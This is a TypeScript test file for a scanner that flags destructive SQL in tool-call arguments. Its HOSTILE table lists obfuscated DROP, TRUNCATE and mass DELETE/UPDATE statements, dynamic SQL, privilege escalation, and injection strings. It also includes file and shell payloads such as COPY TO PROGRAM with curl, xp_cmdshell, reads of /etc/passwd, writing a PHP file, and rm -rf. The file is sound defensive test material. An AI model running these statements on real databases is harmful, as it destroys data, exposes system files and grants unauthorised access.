import { describe, expect, it } from 'vitest';
import { scanArguments } from '../../../src/index.js';

const sqlTool = { name: 'execute_sql', inputSchema: {} };
const sqlCodes = (args: Record<string, unknown>, tool: { name: string } = sqlTool): string[] =>
  scanArguments(args, { inputSchema: {}, ...tool })
    .filter((f) => f.detector === 'sql-destructive')
    .map((f) => f.code);

// Spellings an adaptive attacker tries after the obvious ones are blocked. Each row is executed as
// SQL (a query tool, or a query-named key) and must be denied with the kind of harm it does.
const HOSTILE: readonly (readonly [string, string])[] = [
  // DROP, spelled every way the servers accept
  ['drop', 'DROP/**/TABLE users'],
  ['drop', 'DR/**/OP TABLE users'],
  ['drop', '/*!50000DROP*/ TABLE users'],
  ['drop', '/*!DROP TABLE users*/'],
  ['drop', 'dRoP tAbLe users'],
  ['drop', 'DROP\n\tTABLE\n\tusers'],
  ['drop', 'DROP TABLE `users`'],
  ['drop', 'DROP TABLE "users"'],
  ['drop', 'DROP TABLE IF EXISTS public.users CASCADE'],
  ['drop', 'DROP TABLE IF EXISTS users'],
  ['drop', '-- nightly cleanup\nDROP TABLE users'],
  ['drop', '# mysql comment\nDROP TABLE users'],
  ['drop', 'DROP DATABASE prod'],
  ['drop', 'DROP SCHEMA billing CASCADE'],
  ['drop', 'DROP VIEW monthly_revenue'],
  ['drop', 'DROP USER bob'],
  ['drop', 'SELECT 1; DROP TABLE x'],
  ['drop', 'SELECT * FROM orders WHERE id = 4;\n\n  drop table orders'],
  ['drop', 'WITH x AS (SELECT 1) SELECT * FROM x; DROP TABLE y'],
  // TRUNCATE and ALTER … DROP
  ['truncate', 'TRUNCATE x CASCADE'],
  ['truncate', 'truncate table audit_log restart identity'],
  ['alter-drop', 'ALTER TABLE invoices DROP COLUMN amount'],
  ['alter-drop', 'ALTER TABLE x DROP CONSTRAINT fk_owner'],
  ['alter-drop', 'ALTER TABLE x DROP PRIMARY KEY'],
  ['alter-drop', 'ALTER TABLE events DROP PARTITION p2023'],
  // DELETE/UPDATE that do not pin rows
  ['mass-delete', 'DELETE FROM t'],
  ['mass-delete', 'DELETE FROM t WHERE 1'],
  ['mass-delete', 'DELETE FROM t WHERE TRUE'],
  ['mass-delete', 'DELETE FROM t WHERE 2>1'],
  ['mass-delete', "DELETE FROM t WHERE 'a'='a'"],
  ['mass-delete', 'DELETE FROM t WHERE id > 0'],
  ['mass-delete', 'DELETE FROM t WHERE id IS NOT NULL'],
  ['mass-delete', 'DELETE FROM t WHERE id BETWEEN 0 AND 1e9'],
  ['mass-delete', "DELETE FROM t WHERE x LIKE '%'"],
  ['mass-delete', 'DELETE FROM t WHERE NOT 0'],
  ['mass-delete', 'DELETE FROM t WHERE x = x'],
  ['mass-delete', 'DELETE FROM t WHERE id = 5 OR 1=1'],
  ['mass-delete', 'DELETE FROM t WHERE (id = 5) OR (2 > 1)'],
  ['mass-delete', 'DELETE FROM t WHERE id NOT IN (5)'],
  ['mass-delete', 'WITH gone AS (DELETE FROM t RETURNING *) SELECT count(*) FROM gone'],
  ['mass-update', "UPDATE users SET role='admin'"],
  ['mass-update', "UPDATE users SET role='admin' WHERE 1=1"],
  ['mass-update', "UPDATE users SET role='admin' WHERE id = id"],
  ['mass-update', 'UPDATE accounts SET balance = 0 WHERE balance >= 0'],
  // dynamic SQL: a statement the gate cannot see until run time
  ['dynamic-sql', "EXEC('DR'+'OP TABLE x')"],
  ['dynamic-sql', "EXECUTE 'DROP TABLE ' || t"],
  ['dynamic-sql', "EXECUTE format('DROP %s CASCADE', t)"],
  ['dynamic-sql', 'PREPARE s FROM @q'],
  ['drop', "DO $$BEGIN EXECUTE 'DROP TABLE x'; END$$"],
  ['dynamic-sql', "DO $$BEGIN EXECUTE 'DROP TABLE ' || quote_ident(t); END$$"],
  ['mass-delete', 'DO $$BEGIN DELETE FROM accounts; END$$'],
  ['dynamic-sql', "EXEC sp_executesql N'DROP TABLE x'"],
  ['drop', "EXECUTE IMMEDIATE 'DROP TABLE x'"],
  ['drop', "PREPARE s FROM 'DROP TABLE x'"],
  // server-side file and program access
  ['file-access', "COPY t TO PROGRAM 'sh -c id'"],
  ['file-access', "copy t from program 'curl http://203.0.113.1/x'"],
  ['file-access', "SELECT * FROM t INTO OUTFILE '/var/www/s.php'"],
  ['file-access', "SELECT x INTO DUMPFILE '/tmp/lib.so' FROM t"],
  ['file-access', "ATTACH DATABASE '/tmp/x' AS y"],
  ['file-access', "SELECT pg_read_file('/etc/passwd')"],
  ['file-access', "SELECT lo_export(1234, '/tmp/x')"],
  ['file-access', "SELECT LOAD_FILE('/etc/passwd')"],
  ['file-access', "EXEC xp_cmdshell 'whoami'"],
  ['file-access', '.shell rm -rf /'],
  // privilege and identity changes
  ['privilege', 'GRANT ALL ON *.* TO u'],
  ['privilege', "GRANT ALL PRIVILEGES ON *.* TO 'm'@'%'"],
  ['privilege', 'REVOKE ALL ON DATABASE d FROM public'],
  ['privilege', 'ALTER USER app WITH SUPERUSER'],
  ['privilege', "ALTER USER bob PASSWORD 'x'"],
  ['privilege', "ALTER USER 'b'@'%' IDENTIFIED BY 'x'"],
  ['privilege', "SET PASSWORD FOR root = 'x'"],
  ['privilege', 'GRANT admin TO bob'],
  // readings on which dialects or parsers disagree
  ['drop', "SELECT 'a\\'; DROP TABLE x; --'"],
  ['mass-update', 'UPDATE t SET a = 1 WHERE id = 1 || 1'],
  ['mass-delete', 'DELETE FROM t WHERE id IN (id)'],
  ['mass-delete', 'DELETE FROM t WHERE id = lower(id)'],
  ['mass-delete', 'BEGIN TRAN; DELETE FROM t; COMMIT'],
  ['mass-delete', 'WITH x AS (SELECT 1) DELETE FROM t'],
  ['mass-delete', 'SELECT 1; DEL/**/ETE FROM t WHERE id = 1'],
  ['drop', 'Drop table tennis'],
];

describe('sql-destructive on SQL that is executed', () => {
  it.each(HOSTILE)('reports %s for %j', (code, query) => {
    expect(sqlCodes({ query })[0]?.replace(/_unparsed$/, '')).toBe(code);
  });

  it('classifies query tools by what they are, whatever their spelling', () => {
    for (const name of ['RunQuery', 'ExecuteSQL', 'db.query', 'postgres_exec'])
      expect(sqlCodes({ q: 'DELETE FROM t WHERE id > 0' }, { name })).toEqual(['mass-delete']);
  });

  it('reads a query-named key as SQL on any tool', () => {
    for (const key of ['sql', 'query', 'statement', 'command'])
      expect(sqlCodes({ [key]: 'DROP TABLE IF EXISTS users' }, { name: 'analytics' })).toEqual(['drop']);
  });

  it('reads a value that parses as a destructive statement as SQL on any tool', () => {
    expect(sqlCodes({ input: 'TRUNCATE TABLE audit_log' }, { name: 'tool' })).toEqual(['truncate']);
  });

  it('says when a statement was read without a parse', () => {
    expect(sqlCodes({ query: 'DR/**/OP TABLE users' })).toEqual(['drop_unparsed']);
    expect(sqlCodes({ query: 'DROP TABLE users' })).toEqual(['drop']);
  });

  it('reports the span of the harmful statement', () => {
    const text = 'SELECT 1; DROP TABLE x';
    const [f] = scanArguments({ query: text }, sqlTool).filter((x) => x.detector === 'sql-destructive');
    expect(text.slice(...(f?.span ?? [0, 0]))).toBe('DROP TABLE x');
  });

  it('still reads classic injection in ordinary values', () => {
    expect(sqlCodes({ user: "admin' OR '1'='1" }, { name: 'login' })).toHaveLength(1);
    expect(sqlCodes({ id: "42'; DROP TABLE orders;--" }, { name: 'lookup_order' })).toHaveLength(1);
  });
});
